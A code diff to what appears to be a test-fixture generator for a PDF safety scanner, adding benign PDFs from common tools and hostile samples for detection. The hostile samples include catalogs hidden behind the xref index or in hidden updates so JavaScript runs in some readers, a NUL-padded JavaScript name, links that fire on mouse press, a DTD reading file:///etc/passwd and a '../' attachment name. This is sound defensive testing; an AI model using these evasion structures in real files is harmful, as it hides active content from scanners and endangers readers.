@@ -36,6 +36,11 @@ CODES = {
         "objects-under-other-numbers.pdf",
         "script-too-deep.pdf",
         "script-beside-a-huge-number.pdf",
+        "script-by-a-name-with-nul.pdf",
+        "catalog-behind-the-index.pdf",
+        "catalog-with-short-rows.pdf",
+        "catalog-with-row-too-early.pdf",
+        "catalog-in-a-spare-object.pdf",
     ],
     "pdf_empty": [
         "no-pages.pdf",
@@ -74,6 +79,8 @@ CODES = {
         "javascript-under-high-number.pdf",
         "javascript-behind-wrong-index.pdf",
         "javascript-with-wrong-checksum.pdf",
+        "catalog-of-a-hidden-update.pdf",
+        "catalog-of-another-beginning.pdf",
         "javascript-address.pdf",
         "javascript-address-with-blanks.pdf",
         "javascript-address-in-utf-16.pdf",
@@ -92,11 +99,14 @@ CODES = {
     ],
     "pdf_rich_media": [
         "rich-media.pdf",
+        "rich-media-by-type.pdf",
         "rich-media-execute.pdf",
     ],
     "pdf_automatic_action": [
         "calls-home.pdf",
         "calls-home-on-page.pdf",
+        "calls-home-on-press-of-a-link.pdf",
+        "plays-on-press-of-a-button.pdf",
         "sends-form-on-hover.pdf",
         "sends-form-on-focus.pdf",
         "opens-neighbour.pdf",
@@ -106,9 +116,12 @@ CODES = {
     "pdf_external_content": [
         "external-stream.pdf",
         "external-stream-by-address.pdf",
+        "external-stream-with-empty-file.pdf",
+        "external-stream-by-name.pdf",
         "page-from-elsewhere.pdf",
         "film.pdf",
         "film-in-rendition.pdf",
+        "picture-for-print-on-host.pdf",
     ],
     "pdf_file_target": [
         "link-to-host.pdf",
@@ -120,6 +133,8 @@ CODES = {
         "link-to-samba.pdf",
         "link-to-drive.pdf",
         "link-to-search.pdf",
+        "link-to-file-in-a-language.pdf",
+        "link-that-attaches.pdf",
         "links-from-a-file.pdf",
         "goes-to-host.pdf",
         "goes-to-host-for-unix.pdf",
@@ -130,9 +145,9 @@ CODES = {
         "goes-to-thread-on-host.pdf",
         "sends-form-to-host.pdf",
         "sends-form-to-file.pdf",
-        "picture-for-print-on-host.pdf",
     ],
     "pdf_embedded_file": [
+        "embedded-opendocument.pdf",
         "embedded-program.pdf",
         "embedded-deeper.pdf",
         "attached-to-page.pdf",
@@ -144,6 +159,9 @@ CODES = {
         "invoice-with-style-sheet.pdf",
         "invoice-as-page.pdf",
         "invoice-with-page-inside.pdf",
+        "invoice-for-word.pdf",
+        "invoice-of-another-kind.pdf",
+        "invoice-in-a-folder.pdf",
         "invoice-not-xml.pdf",
         "invoice-with-wrong-name.pdf",
         "invoice-too-large.pdf",
@@ -307,7 +325,7 @@ def numbered(objects, *, facts=b""):
     return out + b"startxref\n%d\n%%%%EOF\n" % index
 
 
-def updated(content, objects, *, size, facts=b""):
+def updated(content, objects, *, size, facts=b"", root=1):
     """Add an update to a document: objects anew, and an index that continues the old one."""
     before = int(content.rpartition(b"startxref\n")[2].split()[0])
     places = {}
@@ -315,9 +333,9 @@ def updated(content, objects, *, size, facts=b""):
         places[number] = len(content)
         content += b"%d 0 obj\n%s\nendobj\n" % (number, changed)
     index = len(content)
-    content += b"xref\n"
+    content += b"xref\n" if objects else b"xref\n0 0\n"
     content += b"".join(b"%d 1\n%010d 00000 n \n" % item for item in places.items())
-    content += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d %s >>\n" % (size, before, facts)
+    content += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d %s >>\n" % (size, root, before, facts)
     return content + b"startxref\n%d\n%%%%EOF\n" % index
 
 
@@ -377,14 +395,20 @@ def with_index_stream(objects, packed_in):
     return out + b"startxref\n%d\n%%%%EOF\n" % at
 
 
-def packed(objects, head=None, pack=zlib.compress):
-    """A PDF whose objects 1, 2, … lie in a stream. `head` replaces the list of what lies where."""
+def packed(objects, head=None, pack=zlib.compress, extra=None):
+    """A PDF whose objects 1, 2, … lie in a stream. `head` replaces the list of what lies where.
+
+    `extra` is one more object in the stream, number 9, which the index does not know.
+    """
     places, text = [], b""
-    for content in objects:
+    for content in (*objects, extra) if extra else objects:
         places.append(len(text))
         text += content + b"\n"
+    if extra:
+        head = b" ".join(b"%d %d" % item for item in enumerate(places[:-1], 1))
+        head += b" 9 %d" % places[-1]
     head = head or b" ".join(b"%d %d" % item for item in enumerate(places, 1))
-    facts = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(objects), len(head) + 1)
+    facts = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(places), len(head) + 1)
     number = len(objects) + 1
     return with_index_stream(
         {number: stream(pack(head + b" " + text), facts)},
@@ -438,6 +462,7 @@ def honest_files():
         b"/TransformParams << /Type /TransformParams /P 2 /V /1.2 >> >>]"
     )
     signed = form(signature % (b"00" * 64, b""), more=b"/SigFlags 3")
+    button = b"/FT /Btn /Ff 65536 "
     first = pdf(catalog=b"/OpenAction 7 0 R", more=(SCRIPT,))
     cleaned = {1: b"<< /Type /Catalog /Pages 2 0 R >>"}
     names = b" ".join(b"(chapter.%d) [3 0 R /Fit]" % n for n in range(3))
@@ -514,6 +539,12 @@ def honest_files():
             {3: signed.split(b"3 0 obj\n")[1].split(b"\nendobj")[0] + b" % seen"},
             size=8,
         ),
+        # As LibreOffice and LaTeX write buttons: on the mouse's button, and with an empty script.
+        "form-by-libreoffice.pdf": form(
+            button + b"/AA << /D << /S /SubmitForm /F (https://example.org/form) >> >>",
+            button + b"/AA << /U << /S /ResetForm >> >>",
+        ),
+        "form-by-latex.pdf": form(button + b"/A << /S /JavaScript /JS () >>"),
         # Links.
         **{
             f"link-{name}.pdf": to(address)
@@ -527,6 +558,8 @@ def honest_files():
                 ("to-somewhere-odd", b"(urn:isbn:9780000000000)"),
                 ("to-a-folder-above", b"(../index.html)"),
                 ("to-a-typing-error", b"(htp:/example.org)"),
+                # What printing leaves of a web page's buttons.
+                ("to-nothing", b"(javascript:void\\(0\\);)"),
             )
         },
         "links-within.pdf": link(
@@ -623,7 +656,7 @@ def honest_files():
                 b"[(<< /S /JavaScript /JS (a) >>) (/AA << /O << /S /URI >> >>) (file://host/)]",
             ),
             trailer=b"/Info << /Title (/Launch) /Subject (/URI \\(file:///\\)) >>",
-        ).replace(b"(Page 1 of a loan agreement)", b"(/S /JavaScript /JS (a)  ...)"),
+        ).replace(b"(Page 1 of a loan agreement)", b"(/S /JavaScript /JS (a) ...)"),
         "model.pdf": pdf(
             page=b"/Annots [<< /Subtype /3D /Rect [0 0 99 99] /3DD 7 0 R /3DA << /A /PO >> >>]",
             more=(stream(b"U3D\0", b"/Type /3D /Subtype /U3D /VA [<< /MS /M >>]"),),
@@ -636,6 +669,8 @@ def honest_files():
             page=b"/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>]",
             more=(b"<< /F (xrechnung.xml) /EF << /F 8 0 R >> >>", stream(INVOICE)),
         ),
+        # GraphicsMagick: the last object is broken, and nothing leads to it.
+        "scan-by-graphicsmagick.pdf": pdf(more=(b"<<\n\nendstream",)),
         # Objects in older parts of a file, which nothing leads to any more.
         "script-taken-out.pdf": updated(first, cleaned, size=8),
         "link-mended.pdf": updated(
@@ -657,6 +692,14 @@ def hostile_structures():
     changed = updated(plain, {3: ONE_PAGE[2], 7: stream(b"BT ET " * 100)}, size=8)
     deep = b"[" * 600 + b"]" * 600
     mixed = numbered({1: SCRIPTED[0], 2: ONE_PAGE[1], 3: ONE_PAGE[2], 4: SCRIPT})
+    evil = SCRIPTED[0].replace(b"4 0 R", SCRIPT)
+    end = plain.rindex(b"xref\n0 ")
+    behind = b"1 0 obj\n%s\nendobj\n" % evil
+    place = plain.rindex(b"startxref\n")
+    shadowed = plain[:end] + behind + plain[end:place]
+    shadowed += b"startxref\n%d\n%%%%EOF\n" % (end + len(behind))
+    hidden = updated(plain, {7: evil}, size=8)
+    hidden_update = updated(hidden, {}, size=8, root=7)
     twice = b"/OpenAction << /S /JavaScript /JS (a) >> /OpenAction [3 0 R /Fit]"
     return {
         # The first half of a download: the beginning has an index of its own.
@@ -683,7 +726,18 @@ def hostile_structures():
         "script-beside-a-huge-number.pdf": pdf(
             catalog=b"/OpenAction 7 0 R", more=(SCRIPT.replace(b">>", b"/A %s >>" % (b"9" * 40)),)
         ),
+        # Some programs end the name there, and run the script.
+        "script-by-a-name-with-nul.pdf": link(b"<< /S /JavaScript#00 /JS (a) >>"),
         "unfolding-objects.pdf": unfolding_objects(),
+        # The index leads to the first object 1. Programs that do not find it, because its end is
+        # too far from the end of the file or written in an odd way, take the last one.
+        "catalog-behind-the-index.pdf": shadowed + b"\n" * 5000,
+        "catalog-with-short-rows.pdf": shadowed.replace(b" n \n", b" n\n"),
+        "catalog-with-row-too-early.pdf": shadowed.replace(b"0000000015 ", b"0000000014 "),
+        "catalog-of-a-hidden-update.pdf": hidden_update.replace(b"startxref\n9", b"startxref %\n9"),
+        "catalog-in-a-spare-object.pdf": packed(ONE_PAGE, extra=evil) + b"\n" * 5000,
+        # The first index of a linearised file, or the last: programs differ.
+        "catalog-of-another-beginning.pdf": two_beginnings(),
         "javascript-in-hybrid.pdf": hybrid(b"/OpenAction 4 0 R", SCRIPT),
         # qpdf passes over numbers that it thinks too high for the length of the file.
         "javascript-under-high-number.pdf": numbered(
@@ -696,6 +750,25 @@ def hostile_structures():
         ).replace(b"/Size 100000", b"/Size 4"),
         "javascript-behind-wrong-index.pdf": mixed.replace(b"4 1\n0000000", b"4 1\n0000001"),
     }
+
+
+def two_beginnings():
+    """A file that calls itself linearised and has two indexes; the first leads to a script."""
+    start = (
+        b"%%PDF-1.7\n9 0 obj\n<< /Linearized 1 /L %010d /O 3 /N 1 /E 0 /T 0 /H [0 0] >>\nendobj\n"
+    )
+    body, places = b"", []
+    index = b"xref\n0 6\n0000000000 65535 f \n%strailer\n<< /Size 6 /Root %d 0 R >>\n"
+    size = len(index % (b" " * 100, 1)) + len(b"startxref\n0\n%%EOF\n")
+    evil = SCRIPTED[0].replace(b"4 0 R", SCRIPT)
+    for number, content in enumerate((*ONE_PAGE, b"null", evil), 1):
+        places.append(len(start % 0) + size + len(body))
+        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
+    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
+    front = index % (rows, 5) + b"startxref\n0\n%%EOF\n"
+    end = b"startxref\n%d\n%%%%EOF\n" % (len(start % 0) + size + len(body))
+    length = len(start % 0) + size + len(body) + len(index % (rows, 1)) + len(end)
+    return start % length + front + body + index % (rows, 1) + end
 
 
 def places_of(objects):
@@ -778,8 +851,20 @@ def hostile_contents():
         "rich-media.pdf": pdf(
             page=b"/Annots [7 0 R]", more=(b"<< /Subtype /RichMedia /RichMediaContent << >> >>",)
         ),
+        "rich-media-by-type.pdf": pdf(page=b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
         "rich-media-execute.pdf": link(b"<< /S /RichMediaExecute /TA 7 0 R /CMD << >> >>"),
         "calls-home-on-page.pdf": pdf(page=b"/AA << /O << /S /URI /URI (https://a.test) >> >>"),
+        # What pressing the mouse may do belongs to buttons, and is what buttons do.
+        # A document of another kind, which LibreOffice opens instead of the pages.
+        "embedded-opendocument.pdf": pdf(
+            more=(stream(b"PK"),),
+            trailer=b"/AdditionalStreams [/application#2Fvnd.oasis.opendocument.text 7 0 R]",
+        ),
+        "calls-home-on-press-of-a-link.pdf": pdf(
+            page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9]"
+            b" /AA << /U << /S /URI /URI (https://a.test) >> >> >>]"
+        ),
+        "plays-on-press-of-a-button.pdf": form(button + b"/AA << /D << /S /Rendition /OP 0 >> >>"),
         "sends-form-on-hover.pdf": form(
             button + b"/AA << /E << /S /SubmitForm /F (https://a.test) >> >>"
         ),
@@ -792,6 +877,13 @@ def hostile_contents():
         "external-stream-by-address.pdf": pdf(
             page=b"/Thumb 7 0 R",
             more=(stream(b"", b"/F << /FS /URL /F (https://a.test/) >>"),),
+        ),
+        "external-stream-with-empty-file.pdf": pdf(
+            page=b"/Thumb 7 0 R",
+            more=(stream(b"", b"/F << /FS /URL /F (https://a.test/) /EF << >> >>"),),
+        ),
+        "external-stream-by-name.pdf": pdf(
+            page=b"/Thumb 7 0 R", more=(stream(b"", b"/F [/a.txt]"),)
         ),
         "page-from-elsewhere.pdf": pdf(
             resources=b"/XObject << /X 7 0 R >>",
@@ -810,6 +902,10 @@ def hostile_contents():
         "link-to-samba.pdf": to(b"(smb://host/share)"),
         "link-to-drive.pdf": to(b"(C:\\\\Windows\\\\a.exe)"),
         "link-to-search.pdf": to(b"(search-ms:query=a&crumb=location:host)"),
+        "link-to-file-in-a-language.pdf": to(
+            b"<feff%s>" % "\x1ben\x1bfile:///a".encode("utf-16-be").hex().encode()
+        ),
+        "link-that-attaches.pdf": to(b"(mailto:a@a.test?attach=c:a.txt)"),
         "links-from-a-file.pdf": pdf(catalog=b"/URI << /Base (file://host/share/) >>"),
         "goes-to-host.pdf": link(b"<< /S /GoToR /F %s /D [0 /Fit] >>" % host),
         "goes-to-host-for-unix.pdf": link(
@@ -846,15 +942,21 @@ def hostile_contents():
         "invoice-and-program.pdf": invoice(
             more=(b"<< /F (a.xml) /EF << /F 8 0 R /UF 10 0 R >> >>", program)
         ).replace(b"/AF [7 0 R]", b"/AF [9 0 R]"),
-        "invoice-with-dtd.pdf": invoice(b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'),
+        "invoice-with-dtd.pdf": invoice(
+            b'<!DOCTYPE Invoice SYSTEM "file:///etc/passwd"><Invoice/>'
+        ),
         "invoice-with-style-sheet.pdf": invoice(
-            b'<?xml version="1.0"?><?xml-stylesheet href="a.xsl" type="text/xsl"?><a/>'
+            b'<?xml version="1.0"?><?xml-stylesheet href="a.xsl" type="text/xsl"?><Invoice/>'
         ),
         "invoice-as-page.pdf": invoice(page_of_its_own),
-        "invoice-with-page-inside.pdf": invoice(b"<a><b>%s</b></a>" % page_of_its_own),
+        "invoice-with-page-inside.pdf": invoice(b"<Invoice>%s</Invoice>" % page_of_its_own),
+        # Windows opens it with Word, as this instruction says.
+        "invoice-for-word.pdf": invoice(b'<?mso-application progid="Word.Document"?><Invoice/>'),
+        "invoice-of-another-kind.pdf": invoice(b"<Project/>"),
+        "invoice-in-a-folder.pdf": invoice(name=b"../a.xml"),
         "invoice-not-xml.pdf": invoice(b"MZ"),
         "invoice-with-wrong-name.pdf": invoice(name=b"factur-x.xml.hta"),
-        "invoice-too-large.pdf": invoice(b"<a>" + b" " * 6 * 1024 * 1024 + b"</a>"),
+        "invoice-too-large.pdf": invoice(b"<Invoice>" + b" " * 6 * 1024 * 1024 + b"</Invoice>"),
         "xfa.pdf": pdf(catalog=b"/AcroForm << /XFA 7 0 R >>", more=(stream(b"<xdp/>"),)),
         "xfa-in-parts.pdf": form(b"/FT /Tx", more=b"/XFA [(template) 7 0 R]"),
     }
